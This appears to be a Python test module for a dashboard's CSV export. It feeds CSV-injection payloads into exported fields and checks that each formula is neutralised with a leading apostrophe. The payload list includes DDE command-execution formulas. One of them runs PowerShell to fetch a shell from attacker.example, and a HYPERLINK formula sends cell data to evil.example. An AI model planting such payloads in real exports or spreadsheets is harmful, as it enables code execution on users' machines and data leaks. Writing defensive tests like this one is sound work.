"""CSV-injection payloads (OWASP's list and variants) and what a spreadsheet user checks."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pandas as pd

from dashboard.model import Event
from tests.factories import event, source

#: Formulas, DDE calls and the same hidden behind blanks, tabs, line breaks and quoting.
CSV_INJECTION_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\r=cmd|' /C calc'!A0",
    "\t=1",
    " =1+1",
    "\n=1+1",
    "\r\n@SUM(1+1)",
    '"=1+1"',
    '=1+1,"x"\r-2+3',
    "\u00a0+1",
    "\u200b=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@")


def hostile_events() -> list[Event]:
    """One event per payload, the payload as its place, target, quote and outlet."""
    return [
        event(
            date=date(2024, 1, 1) + timedelta(days=number),
            place=payload,
            target=payload,
            sources=(source(f"h{number}", payload, outlet=payload),),
        )
        for number, payload in enumerate(CSV_INJECTION_PAYLOADS)
    ]


def assert_inert_csv(text: str, events: list[Event]) -> None:
    """One row per event for both csv and pandas, no formula, and the text kept whole."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    frame = pd.read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False)
    assert len(rows) == len(frame) == len(events)
    for cells in [*(row.values() for row in rows), *frame.itertuples(index=False)]:
        assert not [cell for cell in cells if cell.strip().startswith(FORMULA_STARTS)]
    by_id = {row["id"]: row for row in rows}
    for stored in events:
        row = by_id[stored.id]
        assert row["place"] == row["target"] == row["quote"] == row["outlets"]
        # The apostrophe is all that is added: a quoted payload is text already.
        assert row["place"].removeprefix("'") == stored.place
